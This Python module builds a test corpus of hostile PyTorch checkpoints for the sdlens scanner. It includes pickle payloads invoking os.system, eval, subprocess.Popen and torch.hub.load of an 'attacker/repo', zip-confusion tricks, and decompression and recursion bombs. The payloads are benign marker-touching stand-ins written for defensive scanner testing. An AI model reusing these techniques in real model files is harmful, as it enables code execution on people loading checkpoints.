"""A corpus of hostile torch checkpoints, built from scratch, each with the verdict sdlens must reach.

Shared by the tests (``tests/test_hostile_torch.py``) and the scanner comparison
(``benchmarks/bench_scan_security.py``). Every payload would only ``touch`` a marker file in the corpus
folder if something ever ran it; nothing here runs any of them. Verdicts:

- ``unsafe``: refused as unsafe (:class:`~sdlens.errors.UnsafeFileError`): loading it with ``torch.load``
  (or ``pickle.load``) could run code, or torch could read it differently than sdlens;
- ``error``: refused with one bounded line (:class:`~sdlens.errors.CheckpointError`), quickly, without a
  crash, hang or huge allocation (bombs, mutated references, poisoning attempts);
- ``ok``: a benign file (controls, and hostile-looking shapes that are harmless) that opens.

Groups: ``code`` (a pickle that runs code), ``container`` (zip tricks), ``dos`` (work bombs), ``malformed``,
``poison`` (tries to change the shared stand-ins), ``benign``.
"""

from __future__ import annotations

import io
import os
import pickle
import struct
import warnings
import zipfile
from collections import OrderedDict
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

__all__ = ["CASES", "HostileCase", "build_corpus", "case"]

MARKER = "PWNED"


@dataclass(frozen=True)
class HostileCase:
    name: str
    verdict: str  # "unsafe" | "error" | "ok"
    group: str
    description: str
    build: Callable[[Path], bytes]  # the file's bytes, given the corpus folder (for the marker path)
    suffix: str = ".pt"
    names: tuple[str, ...] = ()  # unsafe globals sdlens must name, where exact

    def write(self, folder: Path) -> Path:
        path = Path(folder) / f"{self.name}{self.suffix}"
        path.write_bytes(self.build(Path(folder)))
        return path


# ---------------------------------------------------------------------------------------------- pieces


class _Reduce:
    """Pickles as ``func(*args)``: the classic payload (never called here)."""

    def __init__(self, func: Callable, *args: object):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args


class _Storage:
    def __init__(self, pid: tuple):
        self.pid = pid


class _Pickler(pickle.Pickler):
    def persistent_id(self, obj):
        return obj.pid if isinstance(obj, _Storage) else None


def _dumps(obj: object, protocol: int = 2) -> bytes:
    buf = io.BytesIO()
    _Pickler(buf, protocol=protocol).dump(obj)
    return buf.getvalue()


def _cmd(folder: Path) -> str:
    return f"touch {folder / MARKER}"


def _system(folder: Path, protocol: int = 2) -> bytes:
    return pickle.dumps({"w": _Reduce(os.system, _cmd(folder))}, protocol=protocol)


def _torch_save(obj: object, legacy: bool = False, **kw: object) -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save(obj, buf, _use_new_zipfile_serialization=not legacy, **kw)
    return buf.getvalue()


def _benign_sd() -> dict:
    import torch

    return {"w": torch.arange(6, dtype=torch.float32).reshape(2, 3), "b": torch.ones(3, dtype=torch.float16)}


def _entries(raw: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(raw)) as z:
        return [(i.filename, z.read(i)) for i in z.infolist()]


def _zip(entries: list[tuple[str, bytes]], methods: dict[str, int] | None = None,
         gaps: dict[str, bytes] | None = None) -> bytes:  # fmt: skip
    """A zip of ``entries`` in order (duplicate names allowed); ``gaps[name]`` bytes are written, outside any
    member, just before that member."""
    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns on duplicate names
        with zipfile.ZipFile(buf, "w") as z:
            for name, data in entries:
                if gaps and name in gaps:
                    z.fp.write(gaps[name])
                    z.start_dir = z.fp.tell()
                z.writestr(name, data, (methods or {}).get(name, zipfile.ZIP_STORED))
    return buf.getvalue()


def _replace(raw: bytes, name: str, data: bytes) -> list[tuple[str, bytes]]:
    return [(n, data if n == name else d) for n, d in _entries(raw)]


def _benign_zip() -> bytes:
    return _torch_save(_benign_sd())


def _evil_zip(folder: Path, protocol: int = 2) -> bytes:
    return _zip(_replace(_benign_zip(), "archive/data.pkl", _system(folder, protocol)))


def _central(raw: bytes, name: str) -> tuple[int, int]:
    """(offset of the central directory entry, offset of the local header) of the first member ``name``."""
    z = zipfile.ZipFile(io.BytesIO(raw))
    pos = z.start_dir
    while raw[pos : pos + 4] == b"PK\x01\x02":
        nlen, xlen, clen = struct.unpack("<HHH", raw[pos + 28 : pos + 34])
        if raw[pos + 46 : pos + 46 + nlen].decode() == name:
            return pos, struct.unpack("<I", raw[pos + 42 : pos + 46])[0]
        pos += 46 + nlen + xlen + clen
    raise KeyError(name)


def _patch(
    raw: bytes, name: str, *, crc_xor: int = 0, flags_or: int = 0, local_name: str | None = None
) -> bytes:
    """Patch member ``name``'s headers: flip CRC bits (both headers), set flag bits, rename the local header."""
    out = bytearray(raw)
    cd, loc = _central(raw, name)
    if crc_xor:
        for at in (cd + 16, loc + 14):
            out[at : at + 4] = struct.pack("<I", struct.unpack("<I", out[at : at + 4])[0] ^ crc_xor)
    if flags_or:
        for at in (cd + 8, loc + 6):
            out[at : at + 2] = struct.pack("<H", struct.unpack("<H", out[at : at + 2])[0] | flags_or)
    if local_name is not None:
        assert len(local_name) == len(name)
        out[loc + 30 : loc + 30 + len(name)] = local_name.encode()
    return bytes(out)


def _tensor_zip(main: bytes, storage: bytes = b"\x00" * 4) -> bytes:
    return _zip([("archive/data.pkl", main), ("archive/byteorder", b"little"), ("archive/data/0", storage),
                 ("archive/version", b"3\n")])  # fmt: skip


def _tensor_pickle(size: object, stride: object, pid: tuple | None = None) -> bytes:
    import torch
    from torch._utils import _rebuild_tensor_v2

    pid = pid or ("storage", torch.FloatStorage, "0", "cpu", 1)
    return _dumps({"w": _Reduce(_rebuild_tensor_v2, _Storage(pid), 0, size, stride, False, OrderedDict())})


def _dag(levels: int, leaf: object = 1, kind: type = list) -> object:
    x = leaf
    for _ in range(levels):
        x = kind([x, x])
    return x


# ---------------------------------------------------------------------------------------------- payloads
# hand-written opcodes (protocol 0/1 text forms, memo tricks) where pickle.dumps would not produce them

_P0_SYSTEM = b"cos\nsystem\n(S'%s'\ntR."


def _raw(template: bytes) -> Callable[[Path], bytes]:
    return lambda folder: template.replace(b"%s", _cmd(folder).encode())


def _short(s: str) -> bytes:
    return b"\x8c" + bytes([len(s)]) + s.encode()


def _memo_eval(folder: Path) -> bytes:
    return (b"\x80\x04" + _short("builtins") + b"\x94" + _short("eval") + b"\x94" + b"00" + b"h\x00h\x01\x93"
            + _short(f"__import__('os').system({_cmd(folder)!r})") + b"\x85R.")  # fmt: skip


def _decoy(folder: Path) -> bytes:
    return (b"\x80\x04" + _short("os") + _short("system") + _short("collections") + _short("OrderedDict")
            + b"00\x93" + _short(_cmd(folder)) + b"\x85R.")  # fmt: skip


def _unicode_escaped(folder: Path) -> bytes:
    return b"\x80\x04Vo\\u0073\nVsyst\\u0065m\n\x93V" + _cmd(folder).encode() + b"\n\x85R."


def _partial_memo(folder: Path) -> bytes:
    # functools.partial(os.system, cmd)() with "os"/"system" built through the memo
    return (b"\x80\x04" + _short("functools") + _short("partial") + b"\x93" + _short("o") + b"\x94"
            + _short("os") + _short("system") + b"\x93" + _short(_cmd(folder)) + b"\x86R)R.")  # fmt: skip


def _in_zip(payload: Callable[[Path], bytes]) -> Callable[[Path], bytes]:
    return lambda folder: _zip(_replace(_benign_zip(), "archive/data.pkl", payload(folder)))


def _legacy_evil(folder: Path) -> bytes:
    import torch

    return _torch_save({"w": torch.ones(2), "x": _Reduce(os.system, _cmd(folder))}, legacy=True)


def _dup_zip(first: bytes, second: bytes) -> bytes:
    """The benign zip with two ``archive/data.pkl``: ``first`` in its place, ``second`` appended last -- an
    arrangement where torch's reader (miniz: a binary search over its sorted central directory, so which
    copy wins depends on the other names) takes the first copy and Python's zipfile the last (the tests check
    this with torch itself)."""
    entries = _replace(_benign_zip(), "archive/data.pkl", first)
    return _zip([*entries, ("archive/data.pkl", second)])


def _dup(folder: Path) -> bytes:
    return _dup_zip(_system(folder), dict(_entries(_benign_zip()))["archive/data.pkl"])


def _dup_benign_pair(folder: Path) -> bytes:
    """Two benign data.pkl copies that differ: the first names the tensors "first.*", the second "second.*"."""
    import torch

    sd = {"w": torch.arange(6, dtype=torch.float32).reshape(2, 3), "b": torch.ones(3, dtype=torch.float16)}
    one, two = ({f"{tag}.{k}": v for k, v in sd.items()} for tag in ("first", "second"))
    return _dup_zip(dict(_entries(_torch_save(one)))["archive/data.pkl"],
                    dict(_entries(_torch_save(two)))["archive/data.pkl"])  # fmt: skip


def _crc(evil: bool) -> Callable[[Path], bytes]:
    return lambda folder: _patch(_evil_zip(folder) if evil else _zip(_entries(_benign_zip())), "archive/data.pkl",
                                 crc_xor=0x1)  # fmt: skip


def _flags(evil: bool, bits: int) -> Callable[[Path], bytes]:
    return lambda folder: _patch(_evil_zip(folder) if evil else _zip(_entries(_benign_zip())), "archive/data.pkl",
                                 flags_or=bits)  # fmt: skip


def _local_name(folder: Path) -> bytes:
    return _patch(_evil_zip(folder), "archive/data.pkl", local_name="archive/xata.pkl")


def _method(method: int) -> Callable[[Path], bytes]:
    return lambda folder: _zip(_replace(_benign_zip(), "archive/data.pkl", _system(folder)),
                               {"archive/data.pkl": method})  # fmt: skip


def _prefix(folder: Path) -> bytes:
    return _zip([(n.replace("archive/", "my model v2/", 1), d) for n, d in _entries(_evil_zip(folder))])


def _mixed_prefix(folder: Path) -> bytes:
    return _zip([("evil/data.pkl", _system(folder)), *_entries(_benign_zip())])


def _extra_member(name: str) -> Callable[[Path], bytes]:
    return lambda folder: _zip([*_entries(_benign_zip()), (name, _system(folder))])


def _concat(folder: Path) -> bytes:
    return _benign_zip() + _evil_zip(folder)


def _polyglot(folder: Path) -> bytes:
    return _system(folder) + _benign_zip()


def _gap(folder: Path) -> bytes:
    return _zip(_entries(_benign_zip()), gaps={"archive/byteorder": _system(folder)})


def _overlap(folder: Path) -> bytes:
    """A second central-directory entry, archive/dat2.pkl, pointing at data.pkl's bytes (members overlap)."""
    raw = _zip(_entries(_benign_zip()))  # zipfile's output: a plain end record, no zip64 records
    eocd = raw.rindex(b"PK\x05\x06")
    n, cd_size, cd_offset = struct.unpack("<HII", raw[eocd + 10 : eocd + 20])
    cd, _ = _central(raw, "archive/data.pkl")
    nlen, xlen, clen = struct.unpack("<HHH", raw[cd + 28 : cd + 34])
    entry = bytearray(raw[cd : cd + 46 + nlen + xlen + clen])
    entry[46 : 46 + nlen] = b"archive/dat2.pkl"
    end = (
        raw[eocd : eocd + 8]
        + struct.pack("<HHII", n + 1, n + 1, cd_size + len(entry), cd_offset)
        + raw[eocd + 20 :]
    )
    return raw[:eocd] + bytes(entry) + end


def _deep_key(folder: Path) -> bytes:
    return _in_zip(lambda f: b"\x80\x02}" + b")" + b"\x85" * 300_000 + b"K\x01s.")(folder)


def _dag_key(folder: Path) -> bytes:
    # written as opcodes: building the dict in Python would hash the key (2**33 steps)
    levels = b"h\x00h\x00\x86q\x00" * 33  # memo[0] = (memo[0], memo[0])
    return _in_zip(lambda f: b"\x80\x02}K\x01q\x00" + levels + b"K\x01s.")(folder)


def _dag_extra(folder: Path) -> bytes:
    import torch

    return _torch_save({"w": torch.ones(2), "bomb": _dag(33)})


def _zip_bomb(folder: Path) -> bytes:
    body = b"\x80\x02" + b"N0" * (40 << 20) + b"N."  # 80 MiB of opcodes, deflated to ~80 KB
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, data in _entries(_benign_zip()):
            if name == "archive/data.pkl":
                z.writestr(name, body, zipfile.ZIP_DEFLATED, compresslevel=1)
            else:
                z.writestr(name, data)
    return out.getvalue()


def _legacy_big(folder: Path) -> bytes:
    """A benign ~6 MB legacy checkpoint: one tensor and a long list of step counts (1.5 M opcodes)."""
    import torch

    return _torch_save({"state_dict": {"w": torch.ones(4)}, "history": list(range(200_000, 1_700_000))},
                       legacy=True)  # fmt: skip


def _poison(target: bytes) -> Callable[[Path], bytes]:
    """A pickle that BUILDs attributes onto a shared stand-in (``target`` is a GLOBAL line pair)."""
    state = b"}(U\x05dtypeU\x03F16U\x08itemsizeK\x02U\x04nameU\x0bHalfStorageu"
    return _in_zip(lambda f: b"\x80\x02c" + target + state + b"b0}.")


def _storage_pid(pid: Callable[[], tuple]) -> Callable[[Path], bytes]:
    return lambda folder: _tensor_zip(_tensor_pickle((1,), (1,), pid()))


def _fs():
    import torch

    return torch.FloatStorage


def _conflict(folder: Path) -> bytes:
    import torch
    from torch._utils import _rebuild_tensor_v2

    a = _Storage(("storage", torch.FloatStorage, "0", "cpu", 1))
    b = _Storage(("storage", torch.HalfStorage, "0", "cpu", 2))
    obj = {
        k: _Reduce(_rebuild_tensor_v2, s, 0, (1,), (1,), False, OrderedDict())
        for k, s in (("a", a), ("b", b))
    }
    return _tensor_zip(_dumps(obj))


# ---------------------------------------------------------------------------------------------- cases

_C = HostileCase
_SYS = f"{os.system.__module__}.system"
CASES: list[HostileCase] = [
    # -- benign controls
    _C("benign_zip", "ok", "benign", "torch.save of a small state dict", lambda f: _benign_zip()),
    _C(
        "benign_legacy",
        "ok",
        "benign",
        "legacy (pre-1.6) torch.save",
        lambda f: _torch_save(_benign_sd(), legacy=True),
    ),
    _C(
        "benign_proto4",
        "ok",
        "benign",
        "torch.save with pickle protocol 4",
        lambda f: _torch_save(_benign_sd(), pickle_protocol=4),
    ),  # fmt: skip
    _C(
        "benign_rewritten_zip",
        "ok",
        "benign",
        "the same zip rewritten by Python's zipfile",
        lambda f: _zip(_entries(_benign_zip())),
    ),  # fmt: skip
    # -- code execution in the pickle
    *[
        _C(
            f"zip_proto{p}_os_system",
            "unsafe",
            "code",
            f"data.pkl is a protocol-{p} os.system REDUCE",
            lambda f, p=p: _evil_zip(f, p),
            names=(_SYS,),
        )
        for p in range(6)
    ],  # fmt: skip
    _C(
        "raw_proto0_text_global",
        "unsafe",
        "code",
        "plain protocol-0 pickle: cos\\nsystem\\n ... R",
        _raw(_P0_SYSTEM),
        suffix=".ckpt",
        names=("os.system",),
    ),  # fmt: skip
    _C(
        "raw_proto1_os_system",
        "unsafe",
        "code",
        "plain protocol-1 pickle calling os.system",
        lambda f: _system(f, 1),
        suffix=".ckpt",
        names=(_SYS,),
    ),  # fmt: skip
    _C(
        "legacy_os_system",
        "unsafe",
        "code",
        "legacy torch.save with an os.system object inside",
        _legacy_evil,
        names=(_SYS,),
    ),  # fmt: skip
    _C(
        "inst_opcode",
        "unsafe",
        "code",
        "protocol-0 INST opcode (no GLOBAL)",
        _raw(b"(S'%s'\nios\nsystem\n."),
        suffix=".pkl",
        names=("os.system",),
    ),  # fmt: skip
    _C(
        "obj_opcode",
        "unsafe",
        "code",
        "protocol-1 OBJ opcode",
        _raw(b"(cos\nsystem\nS'%s'\no."),
        suffix=".pkl",
        names=("os.system",),
    ),  # fmt: skip
    _C(
        "py2_builtin_eval",
        "unsafe",
        "code",
        "__builtin__.eval (Python 2 name, mapped by the unpickler)",
        _raw(b'c__builtin__\neval\n(S\'__import__("os").system("%s")\'\ntR.'),
        suffix=".pkl",
        names=("builtins.eval",),
    ),  # fmt: skip
    _C(
        "memo_built_name",
        "unsafe",
        "code",
        "STACK_GLOBAL whose module and name come from the memo",
        _in_zip(_memo_eval),
        names=("builtins.eval",),
    ),  # fmt: skip
    _C(
        "decoy_strings",
        "unsafe",
        "code",
        "STACK_GLOBAL with allowed-looking decoy strings popped first",
        _in_zip(_decoy),
        names=("os.system",),
    ),  # fmt: skip
    _C(
        "unicode_escaped_name",
        "unsafe",
        "code",
        "STACK_GLOBAL of raw-unicode-escaped 'o\\u0073', 'syst\\u0065m'",
        _in_zip(_unicode_escaped),
        names=("os.system",),
    ),  # fmt: skip
    _C(
        "getattr_chain",
        "unsafe",
        "code",
        "builtins.getattr(__import__('os'), 'system')(cmd)",
        _in_zip(_raw(b"cbuiltins\ngetattr\n(cbuiltins\n__import__\n(S'os'\ntRS'system'\ntR(S'%s'\ntR.")),
        names=("builtins.getattr", "builtins.__import__"),
    ),  # fmt: skip
    _C(
        "functools_partial",
        "unsafe",
        "code",
        "__reduce__ to functools.partial(os.system, cmd)()",
        _in_zip(_raw(b"cfunctools\npartial\n(cos\nsystem\nS'%s'\ntR)R.")),
        names=("functools.partial", "os.system"),
    ),
    _C(
        "partial_memo_names",
        "unsafe",
        "code",
        "functools.partial with os.system built by STACK_GLOBAL",
        _in_zip(_partial_memo),
        names=("functools.partial", "os.system"),
    ),  # fmt: skip
    _C(
        "numpy_runstring",
        "unsafe",
        "code",
        "allowed-looking numpy helper that execs: numpy.testing runstring",
        _in_zip(_raw(b"cnumpy.testing._private.utils\nrunstring\n(S'import os; os.system(\"%s\")'\n(dtR.")),
        names=("numpy.testing._private.utils.runstring",),
    ),  # fmt: skip
    _C(
        "numpy_reconstruct_misuse",
        "unsafe",
        "code",
        "allowed numpy.core.multiarray._reconstruct fed subprocess.Popen",
        _in_zip(_raw(b"cnumpy.core.multiarray\n_reconstruct\n(csubprocess\nPopen\n(S'touch'\nS'%s'\nltR.")),
        names=("subprocess.Popen",),
    ),  # fmt: skip
    _C(
        "torch_rebuild_abuse",
        "unsafe",
        "code",
        "allowed torch._tensor._rebuild_from_type_v2 handed os.system",
        _in_zip(
            _raw(b"ctorch._tensor\n_rebuild_from_type_v2\n(cos\nsystem\ncbuiltins\nobject\n(S'%s'\nt}tR.")
        ),
        names=("os.system", "builtins.object"),
    ),  # fmt: skip
    _C(
        "torch_hub_load",
        "unsafe",
        "code",
        "torch.hub.load (downloads and runs a repository's hubconf.py)",
        _in_zip(_raw(b"ctorch.hub\nload\n(S'attacker/repo'\nS'model'\ntR.")),
        names=("torch.hub.load",),
    ),
    _C(
        "torch_cpp_load_inline",
        "unsafe",
        "code",
        "torch.utils.cpp_extension.load_inline (compiles and loads C++)",
        _in_zip(_raw(b"ctorch.utils.cpp_extension\nload_inline\n(S'x'\nS'int x = system(\"%s\");'\ntR.")),
        names=("torch.utils.cpp_extension.load_inline",),
    ),  # fmt: skip
    _C(
        "ext_registry",
        "unsafe",
        "code",
        "EXT1 opcode (copyreg extension registry) instead of a name",
        _in_zip(lambda f: b"\x80\x02\x82\x01)R."),
        names=("<extension registry code 1>",),
    ),  # fmt: skip
    # -- zip container tricks
    _C(
        "zip_custom_prefix",
        "unsafe",
        "container",
        "archive folder 'my model v2/' instead of 'archive/'",
        _prefix,
        names=(_SYS,),
    ),  # fmt: skip
    _C(
        "zip_extra_pkl",
        "unsafe",
        "container",
        "benign data.pkl plus a malicious archive/extra.pkl",
        _extra_member("archive/extra.pkl"),
        names=(_SYS,),
    ),  # fmt: skip
    _C(
        "zip_hidden_storage_pickle",
        "unsafe",
        "container",
        "pickle payload in an unreferenced archive/data/99",
        _extra_member("archive/data/99"),
        names=(_SYS,),
    ),  # fmt: skip
    _C(
        "zip_nonstandard_member",
        "unsafe",
        "container",
        "pickle payload in a member named archive/model.bin",
        _extra_member("archive/model.bin"),
        names=(_SYS,),
    ),  # fmt: skip
    _C(
        "zip_duplicate_first_evil",
        "unsafe",
        "container",
        "two archive/data.pkl: torch reads the first (evil), zipfile the last (benign)",
        _dup,
        names=(_SYS,),
    ),
    _C(
        "zip_duplicate_benign_pair",
        "unsafe",
        "container",
        "two different benign archive/data.pkl (ambiguous)",
        _dup_benign_pair,
    ),  # fmt: skip
    _C(
        "zip_crc_evil",
        "unsafe",
        "container",
        "malicious data.pkl whose CRC-32 is wrong (zipfile refuses it)",
        _crc(True),
        names=(_SYS,),
    ),  # fmt: skip
    _C("zip_crc_benign", "unsafe", "container", "benign data.pkl whose CRC-32 is wrong", _crc(False)),
    _C(
        "zip_local_name_mismatch",
        "unsafe",
        "container",
        "local header says archive/xata.pkl, central data.pkl",
        _local_name,
        names=(_SYS,),
    ),  # fmt: skip
    _C(
        "zip_encrypted_flag",
        "unsafe",
        "container",
        "malicious data.pkl flagged encrypted (zipfile won't read it)",
        _flags(True, 0x1),
        names=(_SYS,),
    ),  # fmt: skip
    _C(
        "zip_unusual_flag",
        "unsafe",
        "container",
        "benign data.pkl with flag bit 0x10 set",
        _flags(False, 0x10),
    ),
    _C(
        "zip_bzip2_pickle",
        "unsafe",
        "container",
        "data.pkl bzip2-compressed (miniz cannot read; zipfile can)",
        _method(zipfile.ZIP_BZIP2),
    ),  # fmt: skip
    _C(
        "zip_deflated_pickle",
        "unsafe",
        "container",
        "malicious data.pkl deflated",
        _method(zipfile.ZIP_DEFLATED),
        names=(_SYS,),
    ),  # fmt: skip
    _C(
        "zip_mixed_prefix",
        "unsafe",
        "container",
        "first member evil/data.pkl, then a benign archive/",
        _mixed_prefix,
        names=(_SYS,),
    ),  # fmt: skip
    _C("zip_concatenated", "unsafe", "container", "benign zip followed by a malicious zip", _concat),
    _C("zip_gap_between_members", "unsafe", "container", "a pickle hidden between two members", _gap),
    _C(
        "zip_overlapping_members",
        "unsafe",
        "container",
        "two central entries share data.pkl's bytes",
        _overlap,
    ),
    _C(
        "polyglot_pickle_then_zip",
        "unsafe",
        "container",
        "malicious pickle then a benign zip: torch.load unpickles it, zipfile sees the zip",
        _polyglot,
        names=(_SYS,),
    ),  # fmt: skip
    # -- work bombs
    _C(
        "deep_tuple_key",
        "error",
        "dos",
        "dict key: a tuple nested 300,000 deep (C stack overflow when hashed)",
        _deep_key,
    ),  # fmt: skip
    _C(
        "dag_bomb_key", "error", "dos", "dict key: a 33-level memo DAG tuple (2**33 leaves to hash)", _dag_key
    ),
    _C(
        "dag_bomb_shape",
        "error",
        "dos",
        "tensor size: a 33-level memo DAG list (2**33 leaves if repr'd)",
        lambda f: _tensor_zip(_tensor_pickle(_dag(33), (1,))),
    ),  # fmt: skip
    _C(
        "dag_bomb_extra",
        "ok",
        "dos",
        "a non-tensor value that is a 33-level memo DAG (summarised, not expanded)",
        _dag_extra,
    ),  # fmt: skip
    _C(
        "zip_bomb_pickle", "error", "dos", "data.pkl inflating to 80 MiB of opcodes (limit 64 MiB)", _zip_bomb
    ),
    _C(
        "binbytes8_huge",
        "error",
        "dos",
        "BINBYTES8 claiming 2**62 bytes",
        lambda f: b"\x80\x04\x8e" + (1 << 62).to_bytes(8, "little") + b".",
        suffix=".ckpt",
    ),  # fmt: skip
    _C(
        "stride0_4tb",
        "error",
        "dos",
        "a stride-0 view of a 4-byte storage claiming 4 TB",
        lambda f: _tensor_zip(_tensor_pickle((1 << 40,), (0,))),
    ),  # fmt: skip
    _C(
        "deep_list",
        "error",
        "dos",
        "a list nested 100,000 deep",
        _in_zip(lambda f: b"\x80\x02" + b"]" * 100_000 + b"a" * 99_999 + b"."),
    ),  # fmt: skip
    _C(
        "legacy_6mb", "ok", "dos", "a benign 6 MB legacy pickle (1.5 M opcodes) opens in seconds", _legacy_big
    ),
    # -- malformed references
    _C(
        "storage_bad_numel",
        "error",
        "malformed",
        "storage element count is a string",
        _storage_pid(lambda: ("storage", _fs(), "0", "cpu", "1")),
    ),  # fmt: skip
    _C(
        "storage_bad_key",
        "error",
        "malformed",
        "storage key is a list",
        _storage_pid(lambda: ("storage", _fs(), ["0"], "cpu", 1)),
    ),  # fmt: skip
    _C(
        "storage_bad_type",
        "error",
        "malformed",
        "storage type is a string, not a storage class",
        _storage_pid(lambda: ("storage", "FloatStorage", "0", "cpu", 1)),
    ),  # fmt: skip
    _C(
        "storage_short_pid",
        "error",
        "malformed",
        "persistent id with 3 fields",
        _storage_pid(lambda: ("storage", _fs(), "0")),
    ),  # fmt: skip
    _C(
        "storage_type_conflict",
        "error",
        "malformed",
        "one storage key used as float32 and as float16",
        _conflict,
    ),
    _C(
        "tensor_bool_shape",
        "error",
        "malformed",
        "tensor size (True,)",
        lambda f: _tensor_zip(_tensor_pickle((True,), (1,))),
    ),  # fmt: skip
    # -- poisoning attempts
    _C(
        "poison_storage_type",
        "error",
        "poison",
        "BUILD sets dtype/itemsize on the torch.FloatStorage stand-in",
        _poison(b"torch\nFloatStorage\n"),
    ),  # fmt: skip
    _C(
        "poison_ordered_dict",
        "error",
        "poison",
        "BUILD sets attributes on the collections.OrderedDict stand-in",
        _poison(b"collections\nOrderedDict\n"),
    ),  # fmt: skip
    _C(
        "poison_torch_dtype",
        "error",
        "poison",
        "BUILD on the torch.float32 stand-in",
        _poison(b"torch\nfloat32\n"),
    ),
    _C(
        "poison_stub_class",
        "error",
        "poison",
        "BUILD on the argparse.Namespace stub class",
        _poison(b"argparse\nNamespace\n"),
    ),  # fmt: skip
]


def case(name: str) -> HostileCase:
    return next(c for c in CASES if c.name == name)


def build_corpus(folder: str | Path, names: list[str] | None = None) -> list[tuple[HostileCase, Path]]:
    """Write every case (or those named) into ``folder``; returns (case, path) pairs."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    chosen = CASES if names is None else [case(n) for n in names]
    return [(c, c.write(folder)) for c in chosen]
